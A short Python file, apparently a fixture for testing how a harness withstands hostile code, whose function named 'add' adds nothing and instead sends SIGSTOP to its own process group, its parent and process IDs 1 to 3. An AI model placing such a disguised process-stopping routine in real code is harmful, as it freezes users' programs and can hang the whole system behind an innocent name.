"""Stops its whole process group, its parent among them."""

KIND = "call"
import os
import signal


def add(a, b):
    for who in (0, os.getppid(), -os.getpgrp(), 1, 2, 3):
        try:
            os.kill(who, signal.SIGSTOP)
        except OSError:
            pass
